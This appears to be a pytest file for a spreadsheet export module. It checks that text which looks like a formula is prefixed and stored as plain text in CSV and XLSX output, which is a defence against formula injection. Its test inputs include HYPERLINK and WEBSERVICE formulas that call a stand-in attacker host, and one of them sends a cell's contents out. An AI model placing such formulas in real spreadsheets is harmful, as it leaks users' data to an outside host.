"""Cells a spreadsheet would run as formulas are neutralised."""

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from assessment.spreadsheets import neutralise, write


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x")'])
def test_formula_starts_are_prefixed(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Customs Act", "中華臺北", "", 75.0, -3, None])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1", "-2", "@x"])
def test_the_xlsx_stores_formula_like_text_as_text_with_its_exact_value(text):
    content = write(pd.DataFrame({"evidence": [text]}), "xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_the_xlsx_holds_no_formula_at_all():
    content = write(pd.DataFrame({"evidence": ['=WEBSERVICE("http://evil.example/")'], "score": [75.0]}), "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_the_xlsx_leaves_missing_values_empty():
    content = write(pd.DataFrame({"score": [float("nan"), 50.0]}), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [sheet["A2"].value, sheet["A3"].value] == [None, 50]


def test_the_csv_stores_a_formula_as_text():
    assert "'=1+1" in write(pd.DataFrame({"evidence": ["=1+1"]}), "csv").decode("utf-8-sig")
